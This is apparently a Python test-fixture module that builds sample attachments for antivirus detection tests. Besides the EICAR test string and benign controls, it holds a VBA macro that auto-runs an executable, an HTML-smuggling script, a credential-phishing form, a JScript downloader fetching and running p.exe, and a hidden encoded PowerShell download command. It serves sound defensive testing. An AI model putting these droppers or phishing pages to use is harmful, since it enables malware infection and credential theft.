"""Sample attachments built at test time for the antivirus tests.

The EICAR test string is assembled from two halves so that this file is not
itself detected by virus scanners looking at the repository.
"""

from __future__ import annotations

import hashlib
import io
import zipfile

EICAR_MD5 = "44d88612fea8a8f36de82e1278abb02f"
MARKER = b"SPE-TEST-MALWARE-MARKER-7f3a"
HASH_SAMPLE = b"SPE-TEST-HASH-SAMPLE-7f3a: harmless file for the hash signature test\n"

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_OLE_MAGIC = bytes.fromhex("d0cf11e0a1b11ae1")


def eicar() -> bytes:
    """Return the 68-byte EICAR anti-virus test file."""
    data = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
    assert hashlib.md5(data, usedforsecurity=False).hexdigest() == EICAR_MD5
    return data


def _ooxml(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def vba_project(source: str) -> bytes:
    """A minimal OLE-like vbaProject.bin carrying ``source`` and VBA stream names."""
    names = "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 8 + "dir".encode("utf-16-le")
    return _OLE_MAGIC + b"\0" * 504 + names + b"\0" * 64 + source.encode("latin-1")


def macro_docm(source: str) -> bytes:
    """A minimal .docm (OOXML zip) whose vbaProject.bin holds ``source``."""
    return _ooxml(
        {
            "word/document.xml": b"<w:document><w:body>Invoice attached</w:body></w:document>",
            "word/vbaProject.bin": vba_project(source),
        }
    )


def clean_docx() -> bytes:
    """A plain .docx; its text mentions macro words but it has no macros."""
    text = b"Please open the quarterly report. Shell Oil, AutoOpen dealership, CreateObject."
    return _ooxml({"word/document.xml": b"<w:document><w:body>" + text + b"</w:body></w:document>"})


DROPPER_MACRO = (
    'Attribute VB_Name = "ThisDocument"\r\n'
    "Sub Document_Open()\r\n"
    '  Set s = CreateObject("WScript.Shell")\r\n'
    '  s.Run "cmd /c start evil.exe"\r\n'
    "End Sub\r\n"
)
HARMLESS_MACRO = 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  MsgBox "Hi"\r\nEnd Sub\r\n'

SMUGGLING_HTML = b"""<html><body><script>
var bin = atob("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==");
var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }
var blob = new Blob([bytes], {type: "application/octet-stream"});
var a = document.createElement("a");
a.href = window.URL.createObjectURL(blob);
a.download = "invoice.iso";
document.body.appendChild(a);
a.click();
</script></body></html>"""

PHISHING_HTML = b"""<!DOCTYPE html><html><head><title>Sign in to your account</title></head>
<body><form method="POST" action="https://login-office365.example-phish.top/next.php">
<input type="email" name="login"><input type="password" name="passwd">
<button type="submit">Sign in</button></form></body></html>"""

NEWSLETTER_HTML = b"""<html><body><h1>Spring offers</h1>
<p>Log in to <a href="https://shop.example.com/account">your account</a> to see them.</p>
<form action="https://shop.example.com/search"><input type="text" name="q"></form>
<script>console.log("tracking")</script></body></html>"""

JS_DROPPER = b"""var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://203.0.113.9/p.exe", false); x.send();
sh.Run("cmd.exe /c %TEMP%\\\\p.exe", 0);
"""

POWERSHELL_LNK_TEXT = (
    b"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden "
    b"-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
)
